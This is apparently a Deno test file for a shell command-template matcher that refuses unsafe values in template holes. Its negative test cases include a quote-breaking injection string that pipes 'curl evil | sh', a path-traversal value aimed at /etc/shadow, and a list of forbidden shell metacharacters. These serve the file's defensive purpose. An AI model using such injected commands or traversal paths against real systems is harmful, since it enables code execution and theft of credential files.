import assert from "node:assert/strict";
import { MalformedError } from "../malformed.ts";
import {
  FORBIDDEN_HOLE_CHARS,
  holeIsSafe,
  templateMatches,
  templateSegments,
  traverses,
} from "./template.ts";

const BUILD = "build-v8.sh '{{target}}' '{{YAH_TRANSFORM_OUT}}'";

function matches(template: string, yes: readonly string[], no: readonly string[]): void {
  for (const actual of yes) assert.equal(templateMatches(template, actual), true, actual);
  for (const actual of no) assert.equal(templateMatches(template, actual), false, actual);
}

Deno.test("a template without holes is compared as it is, and may hold anything", () => {
  matches("/app/quantize", ["/app/quantize"], ["/app/quantize2", "/app/quantiz", ""]);
  matches("a;b|$(c)`d`", ["a;b|$(c)`d`"], ["a;b|$(c)`d` "]);
  matches("", [""], ["x"]);
});

Deno.test("holes take the values that a run fills in", () => {
  matches(BUILD, [
    "build-v8.sh 'x86_64-unknown-linux-musl' '/yah/produced/deadbeef.out'",
    "build-v8.sh '' ''",
    "build-v8.sh 'two words' '-flag'",
  ], []);
});

Deno.test("a hole may not close the quote that the author opened", () => {
  matches(BUILD, [], [
    "build-v8.sh 'x86'; curl evil | sh; echo '' '/yah/produced/a.out'",
    "build-v8.sh 'x86' 'a' 'b'",
  ]);
});

Deno.test("each character that a shell could read otherwise is refused in a hole, and no other", () => {
  assert.equal(FORBIDDEN_HOLE_CHARS.length, 17);
  for (let unit = 0; unit < 0x250; unit++) {
    const char = String.fromCharCode(unit);
    const safe = !"'\"`$;|&<>(){}\\\n\r\0".includes(char);
    assert.equal(holeIsSafe(`a${char}b`), safe, JSON.stringify(char));
    assert.equal(templateMatches("p{{x}}🦀", `pa${char}b🦀`), safe, JSON.stringify(char));
  }
  // Look-alikes of the forbidden ones mean nothing to a shell.
  for (const other of ["\u037e", "\uff1b", "\u2019", "\u2028", "🦀"]) {
    assert.equal(holeIsSafe(other), true, other);
  }
});

Deno.test("a hole may not step out of the directory it names", () => {
  matches("cp '{{out}}'", ["cp '/yah/a.b/.c'"], [
    "cp '/yah/produced/../../etc/shadow'",
    "cp '..'",
    "cp 'a...b'",
  ]);
  assert.deepEqual(["..", "a..b", ".", "a.b."].map(holeIsSafe), [false, false, true, true]);
});

Deno.test("a hole at the end takes the rest, one at the start what is before its literal", () => {
  matches("prefix-{{x}}", ["prefix-value", "prefix-"], [
    "nope-value",
    "prefix-va;lue",
    " prefix-value",
  ]);
  matches("{{x}}-suffix", ["value-suffix", "-suffix"], ["value-suffix ", "value-suffi"]);
  matches("{{x}}", ["", "anything at all"], ["a\nb"]);
});

Deno.test("a literal is taken at its earliest place, with no backtracking", () => {
  matches("out/{{k}}.out", ["out/a.out"], ["out/a.out.out"]);
  matches("/{{x}}/", ["/a/", "//"], ["/a/b/"]);
  matches("{{x}} z{{y}}", ["a z z"], []);
});

Deno.test("of adjacent holes the first is empty and the last takes what is left", () => {
  matches("{{a}}{{b}}", ["", "value"], ["v;"]);
  matches("x{{a}}{{b}}y", ["xvy", "xy"], ["xvyy", "x;y"]);
});

Deno.test("a hole ends at the first closing braces, whatever it holds", () => {
  assert.deepEqual(templateSegments("{{a{{b}}"), ["", ""]);
  assert.deepEqual(templateSegments("{{{{a}}}}"), ["", "}}"]);
  assert.deepEqual(templateSegments("{{}}}}a}{"), ["", "}}a}{"]);
  assert.deepEqual(templateSegments("{{a}b}}"), ["", ""]);
  assert.deepEqual(templateSegments("p{{{x}}"), ["p", ""]);
  assert.deepEqual(templateSegments("echo {{oops 'lit' {{b}}!"), ["echo ", "!"]);
  matches("{{a}}{b}", ["{b}", "x{b}"], ["{{b}"]);
});

Deno.test("an unterminated {{ is literal text", () => {
  assert.deepEqual(templateSegments("echo {{oops"), ["echo {{oops"]);
  assert.deepEqual(templateSegments("{{a}} {{oops}"), ["", " {{oops}"]);
  matches("echo {{oops", ["echo {{oops"], ["echo anything"]);
  matches("{{a}} {{oops}", ["x {{oops}"], ["x oops"]);
});

Deno.test("literals outside ASCII are found where they are", () => {
  matches("é{{x}}é", ["éé", "é🦀é"], ["é"]);
  matches("{{x}}🦀", ["🦀", "a🦀"], ["\u{1F980}x", "a🦁"]);
});

Deno.test("dots that meet across the edge of a hole traverse; a literal's own do not", () => {
  const rows: [template: string, actual: string, traverses: boolean][] = [
    ["/p/{{a}}.{{b}}", "/p/x.y", false],
    ["/p/{{a}}.{{b}}", "/p/./etc", false],
    ["/p/{{a}}.{{b}}", "/p/../etc", true], // an empty hole, a literal dot, a dot of the next hole
    ["/p/{{a}}.{{b}}", "/p/..", true],
    ["/p/{{a}}.x", "/p/..x", true], // the hole's dot, then the literal's
    ["/p/{{a}}./x", "/p/a../x", true],
    ["/p/.{{a}}", "/p/../etc", true],
    ["/p/.{{a}}", "/p/.x", false],
    ["/p/{{a}}.", "/p/..", false], // no instance: the literal is found at its earliest place
    ["/p/{{a}}./x", "/p/./x", false],
    ["/a.{{x}}./b", "/a../b", true], // two literals around an empty hole
    ["/a.{{x}}{{y}}./b", "/a../b", true],
    ["/a/../{{x}}", "/a/../b", false], // the author's own
    ["/a/../{{x}}", "/a/.././b", false],
    ["/a/..{{x}}", "/a/...", true], // `..` and one more: the second pair crosses the edge
    ["/a/../b", "/a/../b", false],
    ["{{x}}", ".", false],
  ];
  for (const [template, actual, expected] of rows) {
    assert.equal(traverses(template, actual), expected, `${template} ← ${actual}`);
  }
});

Deno.test("forty holes against twenty thousand characters, and a periodic template, are answered", () => {
  const forty = "a{{h}}".repeat(40) + "b";
  assert.equal(templateMatches(forty, "a".repeat(20_000)), false);
  assert.equal(templateMatches(forty, "a".repeat(20_000) + "b"), true);
  const half = "a".repeat(50_000);
  assert.equal(templateMatches(`{{h}}${half}b${half}`, "a".repeat(500_000)), false);
  assert.equal(templateMatches("{{".repeat(100_000), ""), false);
});

Deno.test("half of a surrogate pair is malformed, never split off as a hole's content", () => {
  const malformed = (path: string) => (error: unknown) =>
    error instanceof MalformedError && error.code === "lone_surrogate" && error.path === path;
  assert.throws(() => templateMatches("{{x}}\udd80", "🦀"), malformed("/template"));
  assert.throws(() => templateMatches("{{x}}", "\ud83e"), malformed("/actual"));
  assert.throws(() => templateSegments("\ud83e{{x}}"), malformed("/template"));
  assert.throws(() => holeIsSafe("\ud83e"), malformed("/value"));
});
